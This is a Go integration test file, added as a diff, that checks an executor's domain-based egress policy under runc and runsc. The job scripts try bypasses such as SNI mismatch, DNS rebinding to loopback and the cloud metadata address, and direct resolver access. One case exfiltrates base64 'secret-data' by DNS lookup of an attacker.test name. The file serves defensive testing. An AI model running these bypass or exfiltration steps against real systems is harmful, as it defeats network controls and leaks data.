@@ -1,0 +1,646 @@
+package runs
+
+import (
+	"bytes"
+	"context"
+	"crypto/ecdsa"
+	"crypto/elliptic"
+	"crypto/rand"
+	"crypto/tls"
+	"crypto/x509"
+	"crypto/x509/pkix"
+	"fmt"
+	"log/slog"
+	"math/big"
+	"net"
+	"net/http"
+	"net/netip"
+	"os"
+	"path/filepath"
+	"slices"
+	"strings"
+	"sync"
+	"syscall"
+	"testing"
+	"time"
+
+	"golang.org/x/net/dns/dnsmessage"
+	"golang.org/x/sys/unix"
+	"google.golang.org/protobuf/types/known/durationpb"
+
+	"github.com/airlockhq/airlock/pkg/egress"
+	"github.com/airlockhq/airlock/pkg/nettest"
+	typesv1 "github.com/airlockhq/airlock/proto/airlock/types/v1"
+	"github.com/airlockhq/airlock/services/executor/internal/netpolicy"
+)
+
+// These tests run real jobs (runc and runsc) with a domains policy against
+// a web host in a network namespace the test makes, at documentation
+// addresses (203.0.113.0/24, 2001:db8::/32) that the classifier takes for
+// public, and an upstream DNS server the test runs on loopback, which
+// logs every name it is asked.
+
+// upstreamDNS is the test's upstream resolver: it answers A and AAAA from
+// its table, NXDOMAIN otherwise, and records every name asked.
+type upstreamDNS struct {
+	addr    netip.AddrPort
+	mu      sync.Mutex
+	records map[string][]netip.Addr
+	asked   []string
+}
+
+func startUpstreamDNS(t *testing.T, records map[string][]netip.Addr) *upstreamDNS {
+	t.Helper()
+	pc, err := net.ListenPacket("udp4", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { pc.Close() })
+	u := &upstreamDNS{addr: netip.MustParseAddrPort(pc.LocalAddr().String()), records: records}
+	go func() {
+		buf := make([]byte, 1500)
+		for {
+			n, from, err := pc.ReadFrom(buf)
+			if err != nil {
+				return
+			}
+			if resp := u.answer(buf[:n]); resp != nil {
+				pc.WriteTo(resp, from)
+			}
+		}
+	}()
+	return u
+}
+
+func (u *upstreamDNS) answer(msg []byte) []byte {
+	var p dnsmessage.Parser
+	h, err := p.Start(msg)
+	if err != nil {
+		return nil
+	}
+	q, err := p.Question()
+	if err != nil {
+		return nil
+	}
+	name := strings.ToLower(strings.TrimSuffix(q.Name.String(), "."))
+	u.mu.Lock()
+	u.asked = append(u.asked, name)
+	addrs, ok := u.records[name]
+	u.mu.Unlock()
+	b := dnsmessage.NewBuilder(nil, dnsmessage.Header{ID: h.ID, Response: true, RecursionDesired: h.RecursionDesired, RecursionAvailable: true})
+	if !ok {
+		b = dnsmessage.NewBuilder(nil, dnsmessage.Header{ID: h.ID, Response: true, RCode: dnsmessage.RCodeNameError})
+	}
+	b.EnableCompression()
+	b.StartQuestions()
+	b.Question(q)
+	b.StartAnswers()
+	for _, a := range addrs {
+		rh := dnsmessage.ResourceHeader{Name: q.Name, Class: dnsmessage.ClassINET, TTL: 5}
+		switch {
+		case a.Is4() && q.Type == dnsmessage.TypeA:
+			b.AResource(rh, dnsmessage.AResource{A: a.As4()})
+		case a.Is6() && q.Type == dnsmessage.TypeAAAA:
+			b.AAAAResource(rh, dnsmessage.AAAAResource{AAAA: a.As16()})
+		}
+	}
+	out, _ := b.Finish()
+	return out
+}
+
+func (u *upstreamDNS) names() []string {
+	u.mu.Lock()
+	defer u.mu.Unlock()
+	return slices.Clone(u.asked)
+}
+
+// webHost is a test host serving HTTPS on 443 and HTTP on 80 on all its
+// addresses; each answers "hello <name>" with the SNI or Host it got, and
+// /stream sends a line every 100 ms for a minute. Its UDP and TCP 53 count
+// what reaches them: no job may talk to a resolver directly.
+type webHost struct {
+	ip, ip6 netip.Addr
+	hostIP  netip.Addr // the host's end of the pair: one of the host's own addresses
+	dnsHits atomicCount
+}
+
+type atomicCount struct {
+	mu sync.Mutex
+	n  int
+}
+
+func (c *atomicCount) add() { c.mu.Lock(); c.n++; c.mu.Unlock() }
+func (c *atomicCount) get() int {
+	c.mu.Lock()
+	defer c.mu.Unlock()
+	return c.n
+}
+
+func startWebHost(t *testing.T) *webHost {
+	t.Helper()
+	n := int(testSeq.Add(1))
+	th := nettest.Start(t, nettest.Config{
+		Name:    fmt.Sprintf("rw%04x%02x", os.Getpid()&0xffff, n&0xff),
+		Prefix:  nettest.Subnet(netip.MustParsePrefix("203.0.113.0/24"), 30, (os.Getpid()+n)%64),
+		Prefix6: nettest.Subnet(netip.MustParsePrefix("2001:db8:7a00::/40"), 64, (os.Getpid()&0xffff)<<8|n&0xff),
+	})
+	w := &webHost{ip: th.IP, ip6: th.IP6, hostIP: th.HostIP}
+	handler := http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
+		name := r.Host
+		if r.TLS != nil {
+			name = r.TLS.ServerName
+		}
+		if r.URL.Path == "/stream" {
+			fl := rw.(http.Flusher)
+			for i := 0; i < 600 && r.Context().Err() == nil; i++ {
+				fmt.Fprintf(rw, "tick %d\n", i)
+				fl.Flush()
+				time.Sleep(100 * time.Millisecond)
+			}
+			return
+		}
+		fmt.Fprintf(rw, "hello %s\n", name)
+	})
+	srv := &http.Server{Handler: handler, ReadHeaderTimeout: 10 * time.Second}
+	t.Cleanup(func() { srv.Close() })
+	go srv.Serve(th.Listen(t, "tcp", ":80"))
+	tlsSrv := &http.Server{Handler: handler, ReadHeaderTimeout: 10 * time.Second}
+	t.Cleanup(func() { tlsSrv.Close() })
+	go tlsSrv.Serve(tls.NewListener(th.Listen(t, "tcp", ":443"), &tls.Config{Certificates: []tls.Certificate{selfSigned(t)}}))
+	var pc net.PacketConn
+	if err := th.Do(func() (err error) { pc, err = net.ListenPacket("udp", ":53"); return err }); err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { pc.Close() })
+	go func() {
+		buf := make([]byte, 1500)
+		for {
+			if _, _, err := pc.ReadFrom(buf); err != nil {
+				return
+			}
+			w.dnsHits.add()
+		}
+	}()
+	ln := th.Listen(t, "tcp", ":53")
+	go func() {
+		for {
+			c, err := ln.Accept()
+			if err != nil {
+				return
+			}
+			w.dnsHits.add()
+			c.Close()
+		}
+	}()
+	return w
+}
+
+// selfSigned is a certificate for any name (jobs use curl -k: what is
+// tested is where a connection goes, not whom the job trusts).
+func selfSigned(t *testing.T) tls.Certificate {
+	t.Helper()
+	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
+	if err != nil {
+		t.Fatal(err)
+	}
+	tmpl := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "web host"},
+		DNSNames: []string{"allowed.test", "*.wild.test"}, NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour)}
+	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, &key.PublicKey, key)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return tls.Certificate{Certificate: [][]byte{der}, PrivateKey: key}
+}
+
+// withDomainsNetwork gives h a network manager with IPv6 (so the jobs
+// have both families) and the upstream resolver at u.
+func withDomainsNetwork(t *testing.T, h *harness, u *upstreamDNS) *netpolicy.Manager {
+	t.Helper()
+	n := int(testSeq.Add(1))
+	nm, err := netpolicy.New(netpolicy.Config{
+		Dir:    filepath.Join(t.TempDir(), "net"),
+		Name:   fmt.Sprintf("rue%d_%d", os.Getpid(), n),
+		Pool4:  netip.MustParsePrefix(fmt.Sprintf("10.217.%d.0/24", (os.Getpid()*7+n)%256)),
+		Pool6:  netip.MustParsePrefix(fmt.Sprintf("fd8e:7a1e:%x::/48", (os.Getpid()*7+n)&0xffff)),
+		Logger: slog.New(slog.NewTextHandler(testWriter{t}, &slog.HandlerOptions{Level: slog.LevelWarn})),
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() {
+		h.m.Close()
+		if err := nm.Close(); err != nil {
+			t.Errorf("netpolicy Close: %v", err)
+		}
+	})
+	h.m.cfg.Network = nm
+	h.m.cfg.Resolver = UpstreamResolver([]netip.AddrPort{u.addr})
+	return nm
+}
+
+func domainsPolicy(names ...string) *typesv1.NetworkPolicy {
+	return &typesv1.NetworkPolicy{Mode: &typesv1.NetworkPolicy_Domains{Domains: &typesv1.DomainList{Domains: names}}}
+}
+
+// The names of the boundary tests, and what the upstream answers for them.
+func egressRecords(w *webHost) map[string][]netip.Addr {
+	public := []netip.Addr{w.ip, w.ip6}
+	return map[string][]netip.Addr{
+		"allowed.test":       public,
+		"a.wild.test":        public,
+		"wild.test":          public,
+		"notlisted.test":     public,
+		"rebind-loop.test":   {netip.MustParseAddr("127.0.0.1")},
+		"rebind-host.test":   {w.hostIP},
+		"rebind-meta.test":   {netip.MustParseAddr("169.254.169.254")},
+		"rebind-mapped.test": {netip.MustParseAddr("::ffff:127.0.0.1")},
+		"rebind-6to4.test":   {netip.MustParseAddr("2002:a9fe:a9fe::1")},
+		"mixed.test":         {w.ip, netip.MustParseAddr("10.0.0.1")},
+	}
+}
+
+var egressNames = []string{"allowed.test", "*.wild.test", "rebind-loop.test", "rebind-host.test", "rebind-meta.test",
+	"rebind-mapped.test", "rebind-6to4.test", "mixed.test"}
+
+// sniMismatch opens CONNECT allowed.test:443 on the explicit proxy, then
+// sends a ClientHello for another name through it.
+const sniMismatch = `
+import os, socket, ssl, sys
+host, port = os.environ["HTTPS_PROXY"][len("http://"):].rsplit(":", 1)
+s = socket.create_connection((host.strip("[]"), int(port)), timeout=10)
+s.sendall(b"CONNECT allowed.test:443 HTTP/1.1\r\nHost: allowed.test:443\r\n\r\n")
+head = s.recv(4096)
+print("connect:", head.split(b"\r\n")[0].decode())
+ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
+try:
+    t = ctx.wrap_socket(s, server_hostname="notlisted.test")
+    t.sendall(b"GET / HTTP/1.0\r\nHost: notlisted.test\r\n\r\n")
+    print("REACHED", t.recv(4096))
+except Exception as e:
+    print("refused:", type(e).__name__, e); sys.exit(1)
+`
+
+// udpProbe sends a DNS-looking datagram straight to a resolver and waits.
+const udpProbe = `
+import socket, sys
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1.5)
+try:
+    s.sendto(b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x04leak\x04test\x00\x00\x01\x00\x01", (sys.argv[1], 53))
+    print("ANSWERED", s.recv(512)); sys.exit(0)
+except Exception as e:
+    print("no answer:", e); sys.exit(1)
+`
+
+// tcpProbe connects straight to an address and port.
+const tcpProbe = `
+import socket, sys
+try:
+    socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=2); print("CONNECTED"); sys.exit(0)
+except Exception as e:
+    print("refused:", e); sys.exit(1)
+`
+
+// boundaryScript is the job's side: one "CASE name rc=N output" line per
+// attempt, then a stream to allowed.test left open for the narrowing.
+func boundaryScript(w *webHost, otherProxy netip.Addr) string {
+	ip, ip6 := w.ip.String(), w.ip6.String()
+	cases := [][2]string{
+		{"explicit-https", "curl -sSk --max-time 10 https://allowed.test/"},
+		{"explicit-http", "curl -sS --max-time 10 http://allowed.test/"},
+		{"transparent-https", "curl -sSk --noproxy '*' --max-time 10 https://allowed.test/"},
+		{"transparent-http", "curl -sS --noproxy '*' --max-time 10 http://allowed.test/"},
+		{"transparent-https-v6", "curl -sSk -6 --noproxy '*' --max-time 10 https://allowed.test/"},
+		{"wildcard", "curl -sSk --max-time 10 https://a.wild.test/"},
+		{"apex", "curl -sSk --max-time 10 https://wild.test/"},
+		{"unlisted", "curl -sSk --max-time 10 https://notlisted.test/"},
+		{"ip-literal", "curl -sSk --max-time 10 https://" + ip + "/"},
+		{"sni-mismatch", "python3 /work/sni.py"},
+		{"sni-to-other-address", "curl -sSk --noproxy '*' --max-time 10 --resolve allowed.test:443:198.51.100.7 https://allowed.test/"},
+		{"no-sni", "curl -sSk --noproxy '*' --max-time 10 https://" + ip + "/"},
+		{"rebind-loop", "curl -sSk --max-time 10 https://rebind-loop.test/"},
+		{"rebind-host", "curl -sSk --max-time 10 https://rebind-host.test/"},
+		{"rebind-meta", "curl -sSk --max-time 10 https://rebind-meta.test/"},
+		{"rebind-mapped", "curl -sSk --max-time 10 https://rebind-mapped.test/"},
+		{"rebind-6to4", "curl -sSk --max-time 10 https://rebind-6to4.test/"},
+		{"mixed", "curl -sSk --max-time 10 https://mixed.test/"},
+		{"dns-allowed", "getent ahostsv4 allowed.test"},
+		{"dns-rebind", "getent ahosts rebind-loop.test"},
+		{"exfil", "getent hosts c2VjcmV0LWRhdGE.attacker.test"},
+		{"direct-udp-dns", "python3 /work/udp.py " + ip},
+		{"direct-tcp-dns", "python3 /work/tcp.py " + ip + " 53"},
+		{"direct-port", "python3 /work/tcp.py " + ip + " 8080"},
+		{"direct-v6", "python3 /work/tcp.py " + ip6 + " 8080"},
+		{"other-job-proxy", "python3 /work/tcp.py " + otherProxy.String() + " 15128"},
+	}
+	var b strings.Builder
+	b.WriteString("c() { name=$1; shift; out=$(\"$@\" 2>&1); rc=$?; echo \"CASE $name rc=$rc $(printf '%s' \"$out\" | tr '\\n' ' ' | head -c 400)\"; }\n")
+	for _, c := range cases {
+		fmt.Fprintf(&b, "c %s %s\n", c[0], c[1])
+	}
+	b.WriteString(`(curl -sSk -N --max-time 60 https://allowed.test/stream >/tmp/stream 2>&1; echo "STREAM rc=$? $(tail -c 200 /tmp/stream | tr '\n' ' ')") &
+while ! grep -q tick /tmp/stream 2>/dev/null; do sleep 0.05; done
+echo streaming
+while [ ! -e /work/go2 ]; do sleep 0.05; done
+c after-narrow curl -sSk --max-time 10 https://allowed.test/
+c wildcard-after-narrow curl -sSk --max-time 10 https://a.wild.test/
+wait
+`)
+	return b.String()
+}
+
+// caseLines maps each CASE line's name to the rest of it.
+func caseLines(stdout string) map[string]string {
+	out := map[string]string{}
+	for _, line := range strings.Split(stdout, "\n") {
+		if rest, ok := strings.CutPrefix(line, "CASE "); ok {
+			name, rest, _ := strings.Cut(rest, " ")
+			out[name] = rest
+		}
+	}
+	return out
+}
+
+func (h *harness) writeWork(t *testing.T, jobID, name, content string) {
+	t.Helper()
+	e := h.entry(jobID)
+	e.updateMu.Lock()
+	sb := e.sb
+	e.updateMu.Unlock()
+	if err := os.WriteFile(filepath.Join(sb.WorkDir(), name), []byte(content), 0o644); err != nil {
+		t.Fatal(err)
+	}
+}
+
+func (h *harness) waitStdout(t *testing.T, jobID, want string, d time.Duration) string {
+	t.Helper()
+	end := time.Now().Add(d)
+	for {
+		out, _ := os.ReadFile(filepath.Join(h.m.runDir(jobID), "stdout.log"))
+		if strings.Contains(string(out), want) {
+			return string(out)
+		}
+		if time.Now().After(end) {
+			t.Fatalf("job %s did not print %q in %s; stdout:\n%s", jobID, want, d, out)
+		}
+		time.Sleep(20 * time.Millisecond)
+	}
+}
+
+func readEgress(t *testing.T, h *harness, jobID string) []egress.Record {
+	t.Helper()
+	f, err := os.Open(filepath.Join(h.m.runDir(jobID), egressFile))
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer f.Close()
+	recs, _, err := egress.ReadRecords(f, 0)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return recs
+}
+
+// A job with a domains policy reaches exactly its names, by the explicit
+// proxy and by tools that ignore proxy variables, under runc and runsc;
+// every way around the proxy the issue lists is refused, the decision log
+// has each attempt with its reason, no name the policy does not allow
+// reaches the upstream resolver, and a live narrowing cuts an open
+// connection.
+func TestDomainsPolicyBoundary(t *testing.T) {
+	for _, class := range []typesv1.RuntimeClass{typesv1.RuntimeClass_RUNTIME_CLASS_RUNC, typesv1.RuntimeClass_RUNTIME_CLASS_RUNSC} {
+		t.Run(strings.ToLower(strings.TrimPrefix(class.String(), "RUNTIME_CLASS_")), func(t *testing.T) {
+			testDomainsBoundary(t, class)
+		})
+	}
+}
+
+func testDomainsBoundary(t *testing.T, class typesv1.RuntimeClass) {
+	h, _ := newHarness(t, false)
+	w := startWebHost(t)
+	u := startUpstreamDNS(t, egressRecords(w))
+	withDomainsNetwork(t, h, u)
+
+	// Another domains job, whose proxy the first must not reach.
+	other := h.grantFor("echo ready; sleep 120")
+	other.NetworkPolicy = domainsPolicy("allowed.test")
+	other.RuntimeClass = class
+	h.start(t, other)
+	h.waitRunning(t, other.JobId, "ready")
+	otherProxy := h.entry(other.JobId).egress.addrs[0]
+
+	g := h.grantFor(waitForGo + ". /work/cases.sh")
+	g.NetworkPolicy = domainsPolicy(egressNames...)
+	g.RuntimeClass = class
+	g.Limits.Pids = 256
+	g.Limits.MemoryBytes = 512 << 20
+	g.Limits.Deadline = durationpb.New(4 * time.Minute)
+	h.start(t, g)
+	h.waitRunning(t, g.JobId, "ready")
+	h.writeWork(t, g.JobId, "sni.py", sniMismatch)
+	h.writeWork(t, g.JobId, "udp.py", udpProbe)
+	h.writeWork(t, g.JobId, "tcp.py", tcpProbe)
+	h.writeWork(t, g.JobId, "cases.sh", boundaryScript(w, otherProxy))
+	h.signal(t, g.JobId)
+	out := h.waitStdout(t, g.JobId, "streaming", 3*time.Minute)
+	cases := caseLines(out)
+	t.Logf("cases:\n%s", out)
+
+	ok := func(name, want string) {
+		t.Helper()
+		if got := cases[name]; !strings.HasPrefix(got, "rc=0 ") || !strings.Contains(got, want) {
+			t.Errorf("%s: %q; want rc=0 and %q", name, got, want)
+		}
+	}
+	refused := func(name string) {
+		t.Helper()
+		if got := cases[name]; got == "" || strings.HasPrefix(got, "rc=0 ") {
+			t.Errorf("%s: %q; want refused (a non-zero exit)", name, got)
+		}
+	}
+	ok("explicit-https", "hello allowed.test")
+	ok("explicit-http", "hello allowed.test")
+	ok("transparent-https", "hello allowed.test")
+	ok("transparent-http", "hello allowed.test")
+	ok("transparent-https-v6", "hello allowed.test")
+	ok("wildcard", "hello a.wild.test")
+	// The proxy dialled the name, not the address the job chose.
+	ok("sni-to-other-address", "hello allowed.test")
+	ok("dns-allowed", w.ip.String())
+	for _, name := range []string{"apex", "unlisted", "ip-literal", "sni-mismatch", "no-sni", "rebind-loop", "rebind-host", "rebind-meta",
+		"rebind-mapped", "rebind-6to4", "mixed", "dns-rebind", "exfil", "direct-udp-dns", "direct-tcp-dns", "direct-port", "direct-v6", "other-job-proxy"} {
+		refused(name)
+	}
+	if n := w.dnsHits.get(); n != 0 {
+		t.Errorf("%d packets or connections reached the web host's port 53 straight from the job", n)
+	}
+
+	// Live narrowing: allowed.test leaves the policy; the open stream is
+	// cut, a new connection refused, the wildcard still works.
+	g2 := next(g, func(g *typesv1.Grant) {
+		g.NetworkPolicy = domainsPolicy(slices.DeleteFunc(slices.Clone(egressNames), func(n string) bool { return n == "allowed.test" })...)
+		g.NetworkPolicyGeneration = 2
+	})
+	if _, err := h.m.Update(context.Background(), h.sign(t, g2)); err != nil {
+		t.Fatal(err)
+	}
+	out = h.waitStdout(t, g.JobId, "STREAM rc=", 10*time.Second)
+	if strings.Contains(out, "STREAM rc=0 ") {
+		t.Errorf("the stream to allowed.test ended cleanly after the narrowing; want it cut")
+	}
+	h.writeWork(t, g.JobId, "go2", "")
+	run := h.waitEnd(t, g.JobId)
+	stdout, _ := os.ReadFile(filepath.Join(h.m.runDir(g.JobId), "stdout.log"))
+	cases = caseLines(string(stdout))
+	refused("after-narrow")
+	ok("wildcard-after-narrow", "hello a.wild.test")
+	if run.State != Finished {
+		t.Errorf("run ended %s: %+v", run.State, run.Result)
+	}
+
+	// The record: every attempt, with why.
+	recs := readEgress(t, h, g.JobId)
+	has := func(via, name string, allowed bool, reason string) {
+		t.Helper()
+		for _, r := range recs {
+			if r.Via == via && r.Name == name && r.Allowed == allowed && strings.Contains(r.Reason+" "+r.End, reason) {
+				return
+			}
+		}
+		var same []egress.Record
+		for _, r := range recs {
+			if r.Name == name {
+				same = append(same, r)
+			}
+		}
+		t.Errorf("no %s record for %q allowed=%v with %q in its reason; its records: %+v", via, name, allowed, reason, same)
+	}
+	has(egress.ViaConnect, "allowed.test", true, "allowed by allowed.test")
+	has(egress.ViaHTTP, "allowed.test", true, "allowed by allowed.test")
+	has(egress.ViaTransparent, "allowed.test", true, "allowed by allowed.test")
+	has(egress.ViaConnect, "a.wild.test", true, "allowed by *.wild.test")
+	has(egress.ViaConnect, "wild.test", false, "matches only names below it")
+	has(egress.ViaConnect, "notlisted.test", false, "not in the policy")
+	has(egress.ViaConnect, w.ip.String(), false, "IP address")
+	has(egress.ViaConnect, "allowed.test", false, "SNI")
+	has(egress.ViaTransparent, "", false, "no SNI")
+	has(egress.ViaConnect, "rebind-loop.test", false, "loopback")
+	has(egress.ViaConnect, "rebind-host.test", false, "refused by this executor")
+	has(egress.ViaConnect, "rebind-meta.test", false, "link-local")
+	has(egress.ViaConnect, "rebind-mapped.test", false, "loopback")
+	has(egress.ViaConnect, "rebind-6to4.test", false, "link-local")
+	has(egress.ViaConnect, "mixed.test", false, "private")
+	has(egress.ViaDNS, "allowed.test", true, "allowed.test")
+	has(egress.ViaDNS, "rebind-loop.test", false, "loopback")
+	has(egress.ViaDNS, "c2vjcmv0lwrhdge.attacker.test", false, "not in the policy")
+	has(egress.ViaConnect, "allowed.test", true, "cut: the policy no longer allows")
+	has(egress.ViaConnect, "allowed.test", false, "not in the policy")
+	for _, r := range recs {
+		if r.Via == egress.ViaTransparent && r.Name == "allowed.test" && r.Allowed && strings.HasPrefix(r.Addr, "198.51.100.") {
+			t.Errorf("the proxy dialled the address the job chose: %+v", r)
+		}
+	}
+
+	// DNS carried nothing out: the upstream heard only names the policy
+	// allows (and never the wildcard's apex or an unlisted name).
+	pol, err := egress.Policy{Names: namesOf(egressNames)}.Normalize()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, n := range u.names() {
+		if !pol.AllowsName(n) {
+			t.Errorf("the upstream resolver was asked %q, which the policy does not allow", n)
+		}
+	}
+}
+
+func namesOf(names []string) []egress.Name {
+	out := make([]egress.Name, len(names))
+	for i, n := range names {
+		out[i] = egress.Name{Name: n}
+	}
+	return out
+}
+
+// freebindListen listens on addr even before the address exists on the
+// host (IP_FREEBIND).
+func freebindListen(t *testing.T, addr string) net.Listener {
+	t.Helper()
+	lc := net.ListenConfig{Control: func(_, _ string, c syscall.RawConn) error {
+		var serr error
+		err := c.Control(func(fd uintptr) { serr = unix.SetsockoptInt(int(fd), unix.IPPROTO_IP, unix.IP_FREEBIND, 1) })
+		if err != nil {
+			return err
+		}
+		return serr
+	}}
+	ln, err := lc.Listen(context.Background(), "tcp4", addr)
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { ln.Close() })
+	return ln
+}
+
+// Fail closed: a domains job whose egress proxy cannot listen does not
+// start, and one whose proxy and DNS server die while it runs has no
+// network left, not an open one.
+func TestDomainsFailClosed(t *testing.T) {
+	h, _ := newHarness(t, false)
+	w := startWebHost(t)
+	u := startUpstreamDNS(t, egressRecords(w))
+	nm := withDomainsNetwork(t, h, u)
+
+	// The first job's host end is the pool's first address: take its
+	// proxy port before the job exists.
+	freebindListen(t, net.JoinHostPort(nextHostEnd(t, nm).String(), fmt.Sprint(netpolicy.ExplicitProxyPort)))
+	g := h.grantFor("echo started")
+	g.NetworkPolicy = domainsPolicy("allowed.test")
+	h.start(t, g)
+	run := h.waitEnd(t, g.JobId)
+	if run.State != Failed || !strings.Contains(run.NetworkFailure, "egress proxy") {
+		t.Fatalf("a job whose proxy could not listen: state %s, network failure %q; want failed for the egress proxy", run.State, run.NetworkFailure)
+	}
+	if out, _ := os.ReadFile(filepath.Join(h.m.runDir(g.JobId), "stdout.log")); bytes.Contains(out, []byte("started")) {
+		t.Errorf("the job ran: %q", out)
+	}
+
+	// The services die mid-job.
+	g = h.grantFor(waitForGo + `for u in https://allowed.test/ http://allowed.test/; do
+  if curl -sSk --max-time 5 "$u" >/dev/null 2>&1; then echo "REACHED $u"; else echo "refused $u"; fi
+  if curl -sSk --noproxy '*' --max-time 5 --resolve allowed.test:443:` + w.ip.String() + ` --resolve allowed.test:80:` + w.ip.String() + ` "$u" >/dev/null 2>&1; then echo "REACHED direct $u"; else echo "refused direct $u"; fi
+done
+if getent hosts allowed.test; then echo "REACHED dns"; else echo "refused dns"; fi
+if curl -sS --max-time 5 http://` + w.ip.String() + `:8080/ >/dev/null 2>&1; then echo "REACHED other port"; else echo "refused other port"; fi
+echo done`)
+	g.NetworkPolicy = domainsPolicy("allowed.test")
+	h.start(t, g)
+	h.waitRunning(t, g.JobId, "ready")
+	e := h.entry(g.JobId)
+	e.updateMu.Lock()
+	e.egress.proxy.Close()
+	e.egress.dns.Close()
+	e.updateMu.Unlock()
+	h.signal(t, g.JobId)
+	run = h.waitEnd(t, g.JobId)
+	out, _ := os.ReadFile(filepath.Join(h.m.runDir(g.JobId), "stdout.log"))
+	if bytes.Contains(out, []byte("REACHED")) || !bytes.Contains(out, []byte("done")) {
+		t.Errorf("after the egress services died, the job printed:\n%s", out)
+	}
+	t.Logf("after the egress services died: %s (%s)", out, run.State)
+}
+
+// nextHostEnd is the host end's IPv4 address of the next job nm makes:
+// slots are handed out in turn, one /30 each, so it is the one after a
+// probe's.
+func nextHostEnd(t *testing.T, nm *netpolicy.Manager) netip.Addr {
+	t.Helper()
+	n, err := nm.Create(context.Background(), fmt.Sprintf("probe-%d", testSeq.Add(1)), netpolicy.Policy{Proxied: true})
+	if err != nil {
+		t.Fatal(err)
+	}
+	a := n.ProxyAddrs()[0]
+	if err := n.Close(); err != nil {
+		t.Fatal(err)
+	}
+	return a.Next().Next().Next().Next()
+}
